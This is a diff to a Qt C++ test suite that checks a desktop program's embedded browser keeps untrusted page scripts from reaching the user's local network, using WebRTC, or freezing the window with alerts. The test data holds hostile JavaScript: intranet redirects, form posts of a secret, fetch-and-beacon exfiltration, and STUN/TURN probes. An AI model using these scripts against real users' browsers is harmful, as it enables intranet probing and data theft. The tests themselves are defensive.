@@ -4,6 +4,7 @@
 // engine, under a virtual X server.
 
 #include "scripted_server.h"
+#include "shell/guarded_page.h"
 #include "shell/main_window.h"
 #include "shell/template_box.h"
 #include "shell/web_engine_browser.h"
@@ -14,6 +15,9 @@
 
 #include <QApplication>
 #include <QListWidget>
+#include <QPushButton>
+#include <QTcpServer>
+#include <QUdpSocket>
 #include <QWebEngineProfile>
 #include <QWebEngineView>
 #include <QtTest>
@@ -162,13 +166,145 @@ private slots:
                          && !report.contains("intranet-secret"),
                      qPrintable(report));
         }
-        // A page of the site itself is a web page like any other; the
-        // program's local pages do not even ask the user's network.
-        if (page != "site")
-            QVERIFY2(m_intranet.requests.isEmpty(), qPrintable(m_intranet.requests.join('\n')));
+        // No page asks the user's network, a page of the site itself included.
+        QVERIFY2(m_intranet.requests.isEmpty(), qPrintable(m_intranet.requests.join('\n')));
         // The program's own navigation still shows its page.
         const QString shown = view(page == "tv" ? w.WebBrowser2 : w.WebBrowser1)->url().toString();
         QVERIFY2(!shown.contains("passwd") && !shown.contains("data.db"), qPrintable(shown));
+    }
+
+    // The notice page's script tries to send the browser itself to the
+    // user's network, directly or by way of a page of the site.
+    void topFrameStaysOnTheSite_data()
+    {
+        QTest::addColumn<QString>("script");
+        QTest::newRow("top.location") << "top.location = INTRANET + '/top';";
+        QTest::newRow("a form posted to the top frame")
+            << "var f = document.createElement('form'); f.method = 'POST'; f.target = '_top';"
+               "f.action = INTRANET + '/form'; var i = document.createElement('input'); i.name = 'secret';"
+               "i.value = 'intranet-secret'; f.appendChild(i); document.body.appendChild(f); f.submit();";
+        QTest::newRow("a refresh") << "var m = document.createElement('meta'); m.httpEquiv = 'refresh';"
+                                      "m.content = '0;url=' + INTRANET + '/refresh'; document.head.appendChild(m);";
+        QTest::newRow("a link clicked by script") << "var a = document.createElement('a'); a.href = INTRANET + '/link';"
+                                                     "document.body.appendChild(a); a.click();";
+        QTest::newRow("an empty answer first") << "location.href = SITE + '/empty';"
+                                                  "setTimeout(function () { top.location = INTRANET + '/after'; }, 300);";
+        QTest::newRow("a redirect of the site") << "location.href = SITE + '/redirect';";
+        // On the site's own page, reading the user's network.
+        QTest::newRow("two steps") << "location.href = SITE + '/hop.html';";
+    }
+    void topFrameStaysOnTheSite()
+    {
+        QFETCH(QString, script);
+        WindowFixture f(m_site.site());
+        f.services.makeBrowser = [this](QWidget *parent) { return new shell::WebEngineBrowser(m_profile, parent); };
+        f.prepareCatalogue({});
+        const QString intranet = m_intranet.site();
+        const QString code = "var SITE = '" + m_site.site() + "', INTRANET = '" + intranet + "';" + script
+                             + "setTimeout(function () { new Image().src = SITE + '/report?kind=done'; }, 1500);";
+        m_site.on("/Uploads/soft.js", Reply(200, code.toUtf8()).type("application/javascript"));
+        m_site.on("/empty", Reply(204));
+        m_site.on("/redirect", Reply(302).header(("Location: " + intranet + "/redirected").toUtf8()));
+        const QByteArray hop = "<html><body><script>var I = '" + intranet.toUtf8() + "';"
+            "fetch(I + '/fetch').then(function (r) { return r.text(); }).then("
+            "  function (t) { new Image().src = '/report?kind=read&data=' + encodeURIComponent(t); },"
+            "  function () { new Image().src = '/report?kind=refused'; });"
+            "var x = new XMLHttpRequest(); try { x.open('GET', 'http://localhost:" + QByteArray::number(m_intranet.port())
+            + "/xhr', false); x.send(); } catch (e) {}"
+            "new Image().src = I + '/image';</script></body></html>";
+        m_site.on("/hop.html", Reply(200, hop));
+        m_site.requests.clear();
+        m_intranet.requests.clear();
+
+        f.load();
+        QTRY_VERIFY2_WITH_TIMEOUT(m_site.requests.contains("kind=done") || m_site.requests.contains("kind=refused"),
+                                  qPrintable(m_site.requests.join(" | ")), 15000);
+        if (QString(QTest::currentDataTag()) == "two steps")
+            QTRY_VERIFY_WITH_TIMEOUT(m_site.requests.contains("kind=refused"), 10000);
+        QVERIFY2(m_intranet.requests.isEmpty(), qPrintable(m_intranet.requests.join('\n')));
+        QVERIFY(m_site.requests.filter("kind=read").isEmpty());
+    }
+
+    // WebRTC reaches past every request the program sees: it must not be
+    // there at all, from the page or from a frame the page makes.
+    void webRtcSendsNothing()
+    {
+        QUdpSocket stun;
+        QVERIFY(stun.bind(QHostAddress::LocalHost, 0));
+        QTcpServer turn;
+        QVERIFY(turn.listen(QHostAddress::LocalHost));
+        WindowFixture f(m_site.site());
+        f.services.makeBrowser = [this](QWidget *parent) { return new shell::WebEngineBrowser(m_profile, parent); };
+        f.prepareCatalogue({});
+        const QString code = QString(R"JS(
+var SITE = '%1';
+function report(kind) { new Image().src = SITE + '/report?kind=' + kind; }
+function connect(PC, name) {
+  if (typeof PC !== 'function') { report('absent-' + name); return; }
+  try {
+    var pc = new PC({ iceServers: [{ urls: 'stun:127.0.0.1:%2' },
+                                   { urls: 'turn:127.0.0.1:%3?transport=tcp', username: 'u', credential: 'c' }] });
+    pc.createDataChannel('x');
+    pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
+    report('made-' + name);
+  } catch (e) { report('refused-' + name); }
+}
+connect(window.RTCPeerConnection, 'page');
+connect(window.webkitRTCPeerConnection, 'webkit');
+var f = document.createElement('iframe');
+document.body.appendChild(f);
+connect(window[0].RTCPeerConnection, 'frame');
+var holder = document.createElement('div');
+holder.innerHTML = '<iframe name="named"></iframe>';
+document.body.appendChild(holder);
+connect(window.named.RTCPeerConnection, 'named frame');
+document.write('<iframe></iframe>');
+connect(frames[frames.length - 1].RTCPeerConnection, 'written frame');
+connect(window[0].document.defaultView.RTCPeerConnection, 'frame again');
+setTimeout(function () { report('done'); }, 2500);
+)JS").arg(m_site.site()).arg(stun.localPort()).arg(turn.serverPort());
+        m_site.on("/Uploads/soft.js", Reply(200, code.toUtf8()).type("application/javascript"));
+        m_site.requests.clear();
+        f.load();
+        QTRY_VERIFY2_WITH_TIMEOUT(m_site.requests.contains("kind=done"), qPrintable(m_site.requests.join(" | ")), 15000);
+        QVERIFY2(!stun.hasPendingDatagrams(), qPrintable(m_site.requests.join(" | ")));
+        QVERIFY2(!turn.hasPendingConnections(), qPrintable(m_site.requests.join(" | ")));
+        QVERIFY2(m_site.requests.filter("kind=made").isEmpty(), qPrintable(m_site.requests.join(" | ")));
+    }
+
+    // A script that asks for two hundred alerts gets one, over the page
+    // alone: the window answers clicks all the while.
+    void alertsDoNotLockTheWindow()
+    {
+        WindowFixture f(m_site.site());
+        f.services.makeBrowser = [this](QWidget *parent) { return new shell::WebEngineBrowser(m_profile, parent); };
+        f.prepareCatalogue({{7, 8, "天下", "t"}});
+        m_site.on("/Uploads/soft.js",
+                  Reply(200, ("for (var i = 0; i < 200; i++) alert(i); confirm('c'); prompt('p');"
+                              "new Image().src = '" + m_site.site() + "/report?kind=after';").toUtf8())
+                      .type("application/javascript"));
+        m_site.requests.clear();
+        shell::frmMain &w = f.load();
+        const auto cover = [&] { return w.WebBrowser1->findChild<QWidget *>("pageDialog"); };
+        QTRY_VERIFY_WITH_TIMEOUT(cover() && cover()->isVisible(), 15000);
+        QVERIFY(!view(w.WebBrowser1)->isEnabled());
+
+        // The rest of the window works: a category lists its titles, and
+        // its notice page, loaded anew, brings its own single alert.
+        f.clickNode("cid8");
+        QCOMPARE(w.titleModel().rowCount(), 1);
+        auto *page = static_cast<shell::GuardedPage *>(view(w.WebBrowser1)->page());
+        QTRY_COMPARE_WITH_TIMEOUT(page->dialogsShown(), 2, 15000);
+        QTRY_COMPARE(w.WebBrowser1->findChildren<QWidget *>("pageDialog").size(), 1);
+        QVERIFY(cover()->isVisible());
+        QPushButton *ok = cover()->findChild<QPushButton *>();
+        QVERIFY(ok);
+        QTest::mouseClick(ok, Qt::LeftButton);
+        QTRY_VERIFY_WITH_TIMEOUT(m_site.requests.contains("kind=after"), 15000);
+        QVERIFY(!cover());
+        QVERIFY(view(w.WebBrowser1)->isEnabled());
+        QCOMPARE(page->dialogsShown(), 2);
+        QVERIFY(page->dialogsAsked() >= 202);
     }
 
     // The keyboard goes through the real web view and out to the episode
